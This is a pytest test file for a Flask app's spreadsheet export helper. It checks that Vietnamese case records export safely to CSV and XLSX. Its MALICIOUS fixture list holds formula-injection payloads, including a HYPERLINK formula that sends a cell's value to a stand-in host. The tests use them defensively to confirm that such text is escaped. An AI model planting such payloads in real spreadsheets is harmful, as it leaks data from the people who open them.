"""The shared export helper: what a spreadsheet opens from XLSX and CSV, a
formula-like text kept as text, dates as dates."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from app import exports

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")
HEADERS = ["Mã hồ sơ", "Người nộp", "Tiếp nhận", "Hạn trả", "Số ngày"]
MALICIOUS = ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+1+2", "-2+3", "@SUM(A1)",
             "\tTab", "\rCR"]


def _rows() -> list[list[object]]:
    at = datetime(2023, 6, 5, 2, 30, tzinfo=ZoneInfo("UTC"))  # 09:30 in Hà Nội
    return [["HS-1", "Nguyễn Thị Ánh", at, date(2023, 6, 8), 3],
            *[[f"HS-{n}", name, at, date(2023, 6, 8), 3] for n, name in enumerate(MALICIOUS, 2)]]


@pytest.mark.parametrize("text", MALICIOUS)
def test_a_formula_like_text_is_prefixed_in_csv(text: str):
    assert exports.csv_text(text, ZONE) == "'" + text


@pytest.mark.parametrize("text", ["Nguyễn Văn A", "1.000894", "a=b", "", "Lê-Văn"])
def test_an_ordinary_text_is_written_as_it_is(text: str):
    assert exports.csv_text(text, ZONE) == text


def test_csv_has_a_byte_order_mark_vietnamese_headers_and_dates_as_the_page_shows():
    data = "".join(exports.csv_lines(HEADERS, _rows(), ZONE)).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read[0] == HEADERS
    assert read[1] == ["HS-1", "Nguyễn Thị Ánh", "05/06/2023 09:30", "08/06/2023", "3"]
    assert [row[1] for row in read[2:]] == ["'" + t for t in MALICIOUS]


def test_csv_of_many_rows_comes_in_blocks_with_every_row_once():
    rows = [[f"HS-{n}", "A", None, None, n] for n in range(1234)]
    blocks = list(exports.csv_lines(HEADERS, rows, ZONE))
    assert len(blocks) > 1
    read = list(csv.reader(io.StringIO("".join(blocks).lstrip("\ufeff"))))
    assert [r[0] for r in read[1:]] == [f"HS-{n}" for n in range(1234)]


def _sheet(rows: list[list[object]], title: str = "Hồ sơ"):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(exports.workbook(title, HEADERS, rows, ZONE))).active


def test_xlsx_keeps_formula_like_text_as_text_and_dates_as_dates():
    sheet = _sheet(_rows())
    assert sheet.title == "Hồ sơ"
    assert [c.value for c in sheet[1]] == HEADERS
    assert sheet["A1"].font.bold
    first = sheet[2]
    assert first[2].value == datetime(2023, 6, 5, 9, 30)
    assert first[2].number_format == exports.TIME_FORMAT
    assert first[3].value == datetime(2023, 6, 8) and first[3].number_format == "dd/mm/yyyy"
    assert first[4].value == 3
    for row, text in zip(sheet.iter_rows(min_row=3), MALICIOUS, strict=True):
        assert row[1].value == text
        assert row[1].data_type == "s"  # not "f": a formula would run when opened
        assert row[1].quotePrefix


def test_xlsx_stops_at_its_limit_and_says_so(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(exports, "XLSX_ROW_LIMIT", 5)
    sheet = _sheet([[f"HS-{n}", "A", None, None, n] for n in range(8)])
    values = [r[0].value for r in sheet.iter_rows(min_row=2)]
    assert values[:5] == [f"HS-{n}" for n in range(5)]
    assert len(values) == 6 and values[5].startswith("Chỉ xuất 5 dòng đầu")


def test_xlsx_of_exactly_the_limit_says_nothing_more(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(exports, "XLSX_ROW_LIMIT", 5)
    sheet = _sheet([[f"HS-{n}", "A", None, None, n] for n in range(5)])
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == [f"HS-{n}" for n in range(5)]


@pytest.mark.parametrize(("title", "expected"), [("Sổ theo dõi 2023/06", "Sổ theo dõi 2023-06"),
                                                 ("x" * 40, "x" * 31), ("[]", "--")])
def test_a_sheet_title_follows_excels_rules(title: str, expected: str):
    assert exports.sheet_title(title) == expected


@pytest.mark.parametrize(("stem", "name"), [("ho-so-2023-06", "ho-so-2023-06.xlsx"),
                                            ("so theo doi/2023 Q2", "so-theo-doi-2023-Q2.xlsx"),
                                            ("ho-so-2023-01-01..2023-03-31",
                                             "ho-so-2023-01-01-den-2023-03-31.xlsx"),
                                            ("", "danh-sach.xlsx")])
def test_file_names_need_no_quoting(stem: str, name: str):
    assert exports.file_name(stem, "xlsx") == name


def test_the_answer_is_an_attachment_never_cached():
    from flask import Flask
    app = Flask(__name__)
    app.config["TIMEZONE"] = "Asia/Ho_Chi_Minh"
    with app.test_request_context():
        for kind, media in (("xlsx", exports.XLSX_TYPE), ("csv", "text/csv")):
            response = exports.answer(kind, "ho-so-2023-06", "Hồ sơ", HEADERS, _rows())
            assert response.headers["Content-Disposition"] == \
                f'attachment; filename="ho-so-2023-06.{kind}"'
            assert response.headers["Cache-Control"] == "no-store"
            assert response.mimetype == media
